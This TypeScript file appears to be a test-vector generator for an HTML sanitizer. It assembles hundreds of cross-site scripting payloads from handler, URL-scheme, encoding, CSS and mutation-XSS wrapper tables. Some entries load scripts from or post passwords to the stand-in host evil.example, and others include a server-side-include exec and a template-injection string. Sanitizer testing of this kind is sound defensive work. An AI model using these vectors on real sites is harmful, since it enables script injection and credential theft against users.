/**
 * HTML that tries to run a script, derived from rules: what runs (a handler, an address, a style, an element), in which encoding, behind
 * which quotes, and nested in what parsers read differently the second time.
 */
import { seededRandom } from '../inputs/pick.ts';
import { urlAttributes } from './url-attributes.ts';

/** Sets `injected` on the page, which shows that a vector has run. */
export const payload = 'window.injected=1';
export const vectorCount = 600;

const elements = [
  'a',
  'img',
  'svg',
  'math',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'details',
  'body',
  'form',
  'button',
  'input',
  'select',
  'textarea',
  'style',
  'link',
  'table',
  'td',
  'marquee',
  'frameset',
  'source',
  'track',
  'dialog',
  'portal',
  'x',
  'custom-element',
  'template',
  'noscript',
  'p',
  'b',
];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'ontransitionend',
  'onbegin',
  'onend',
  'onrepeat',
  'onscroll',
  'onwheel',
  'onbeforeinput',
  'onformdata',
  'onhashchange',
  'onpageshow',
  'onmessage',
  'onsecuritypolicyviolation',
  'onslotchange',
  'onbeforetoggle',
  'onscrollsnapchange',
  'oncontentvisibilityautostatechange',
];
const schemes = [
  (code: string) => `javascript:${code}`,
  (code: string) => `JaVaScRiPt:${code}`,
  (code: string) => `\u0001javascript:${code}`,
  (code: string) => ` \t\njavascript:${code}`,
  (code: string) => `java\tscript:${code}`,
  (code: string) => `java\nscript:${code}`,
  (code: string) => `javascript\r:${code}`,
  (code: string) => `javascript://%0a${code}`,
  (code: string) => `vbscript:${code}`,
  (code: string) => `data:text/html,<script>${code}</script>`,
  (code: string) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code: string) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
  (code: string) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
  (code: string) => `blob:javascript:${code}`,
  (code: string) => `view-source:javascript:${code}`,
  (code: string) => `feed:javascript:${code}`,
  (code: string) => `jar:javascript:${code}!/`,
  (code: string) => `//evil.example/${code}`,
  (code: string) => `\\\\evil.example/${code}`,
  (code: string) => `https://evil.example/${code}`,
];

type Text = (text: string) => string;
const eachCharacter =
  (format: (code: number) => string): Text =>
  (text) =>
    [...text].map((character) => format(character.codePointAt(0) ?? 0)).join('');
/** Encodings that an attribute value is decoded from. */
const encodings: readonly Text[] = [
  (text) => text,
  (text) => text,
  eachCharacter((code) => `&#${code};`),
  eachCharacter((code) => `&#x${code.toString(16)};`),
  eachCharacter((code) => `&#${String(code).padStart(7, '0')}`),
  (text) => text.replace(':', '&colon;').replace('=', '&equals;'),
  (text) => text.replace(/[jw]/i, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace('script', 'scr&Tab;ipt').replace('window', 'win&NewLine;dow'),
  (text) => `&#1;${text}`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll(/[a-z]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
];
const quotes: readonly Text[] = [
  (text) => `"${text}"`,
  (text) => `'${text}'`,
  (text) => text.replaceAll(/[\s"'>]/g, ''),
  (text) => `\`${text}\``,
  (text) => `"${text}`,
  (text) => `\u00a0"${text}"`,
];
const separators = [' ', '/', '\t', '\n', '\f', '\r\n', ' / ', '\v', '\0', ' a=b\u00a0'];
const casings: readonly Text[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
];

const styles = [
  `width:expression(${payload})`,
  `background:url(javascript:${payload})`,
  `background:url("data:text/html,<script>${payload}</script>")`,
  `-moz-binding:url(//evil.example/x#x)`,
  `behavior:url(//evil.example/x.htc)`,
  `b\\61 ckground:u\\72 l(javascript:${payload})`,
  `@import "javascript:${payload}"`,
  `background:/*</style>*/url(//evil.example)`,
  `animation-name:x;position:fixed;inset:0`,
];

/** Vectors that run by themselves, without attributes of the tables above. */
const wholes = [
  `<script>${payload}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${payload}"></script>`,
  `<script type=module>${payload}</script>`,
  `<script type=importmap>{"imports":{"x":"//evil.example"}}</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<script\0>${payload}</script\0>`,
  `<script x>${payload}</script y>`,
  `<script >${payload}`,
  `<svg><script>${payload}</script></svg>`,
  `<svg><script href="data:text/javascript,${payload}"/></svg>`,
  `<math><mtext><script>${payload}</script></mtext></math>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=data:text/html,x>`,
  `<link rel=modulepreload href=//evil.example/x.js>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${payload}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta http-equiv=set-cookie content="a=b">`,
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  `<iframe src=//evil.example></iframe>`,
  `<object data=//evil.example type=text/html></object>`,
  `<embed src=//evil.example>`,
  `<applet code=x></applet>`,
  `<form action=//evil.example><input name=password><button>x</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:${payload}>x</button>`,
  `<svg><animate attributeName=href values=javascript:${payload} /><a id=x><text>x</text></a></svg>`,
  `<svg><a><set attributeName=href to=javascript:${payload} /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${payload}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${payload}</script>"></iframe></foreignObject></svg>`,
  `<math href="javascript:${payload}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${payload}">x</maction></math>`,
  `<xml id=x><a><b>&lt;script>${payload}&lt;/script></b></a></xml>`,
  `<?xml-stylesheet href="javascript:${payload}"?>`,
  `<!--#exec cmd="id"-->`,
  `<template shadowrootmode=open><script>${payload}</script></template>`,
  `<plaintext><script>${payload}</script>`,
];

/** Contexts in which a parser, the sanitizer and a second parser see other elements. */
const wrappers: readonly Text[] = [
  (inner) => inner,
  (inner) => `<p>${inner}</p>`,
  (inner) => `<div><table>${inner}<tr><td>x</table></div>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<math><mtext><mglyph><style></math>${inner}</style>`,
  (inner) => `<svg></p><style><a title="</style>${inner}">`,
  (inner) => `<svg><desc><noscript>${inner}</noscript></desc></svg>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<p title="</p>${inner}">x</p>`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<noframes><p title="</noframes>${inner}">`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<select><option>${inner}</option></select>`,
  (inner) => `<select><template>${inner}</template></select>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<!--><p>-->${inner}`,
  (inner) => `<!--!>${inner}-->`,
  (inner) => `<!-- --!>${inner}<!-- -->`,
  (inner) => `<![CDATA[>${inner}]]>`,
  (inner) => `<svg><![CDATA[><p title="]]>${inner}">`,
  (inner) => `<?${inner}?>`,
  (inner) => `<a href="/men" title='${inner.replaceAll("'", '"')}'>x</a>`,
  (inner) => `<img src="/i/ridge/x" alt="${inner.replaceAll('"', '&quot;')}">`,
  (inner) => `<b><i><p></b>${inner}</i></p>`,
  (inner) => `<a><a>${inner}</a></a>`,
  (inner) => `${'<div>'.repeat(120)}${inner}`,
  (inner) => `&lt;p&gt;${inner.replaceAll('<', '&lt;')}`,
  (inner) => inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (inner) => inner.replaceAll('<', '<\0'),
  (inner) => `</main></body></html>${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `"></p>${inner}`,
  (inner) => `'-${payload}-'${inner}`,
  (inner) => `\${${payload}}${inner}`,
  (inner) => `{{constructor.constructor('${payload}')()}}${inner}`,
  (inner) => `\u2028${inner}\u2029`,
  (inner) => `+ADw-script+AD4-${payload}+ADw-/script+AD4-${inner}`,
];

type Choose = <Value>(values: readonly Value[]) => Value;

function withHandler(choose: Choose): string {
  const element = choose(casings)(choose(elements));
  const attribute = `${choose(casings)(choose(handlers))}=${choose(quotes)(choose(encodings)(payload))}`;
  return `<${element}${choose(separators)}src=/nothing${choose(separators)}${attribute} tabindex=0 autofocus open>x</${element}>`;
}

function withAddress(choose: Choose): string {
  const element = choose(casings)(choose(elements));
  const value = choose(quotes)(choose(encodings)(choose(schemes)(payload)));
  return `<${element}${choose(separators)}${choose(casings)(choose(urlAttributes))}=${value}>x</${element}>`;
}

function withStyle(choose: Choose): string {
  const element = choose(elements);
  return `<${element} style=${choose(quotes)(choose(encodings)(choose(styles)))}>x</${element}><style>*{${choose(styles)}}</style>`;
}

/** Returns the vectors of a seed: each whole and each wrapper at least once, the rest drawn from the rules. */
export function htmlVectors(seed: number, count = vectorCount): string[] {
  const random = seededRandom(seed);
  const choose: Choose = (values) => values[Math.floor(random() * values.length)]!;
  const rules = [withHandler, withAddress, withStyle, (any: Choose) => any(wholes)];
  return Array.from({ length: count }, (_, index) => {
    const core = wholes[index] ?? rules[index % rules.length]!(choose);
    return (wrappers[(index - wholes.length + wrappers.length) % wrappers.length] ?? choose(wrappers))(core);
  });
}
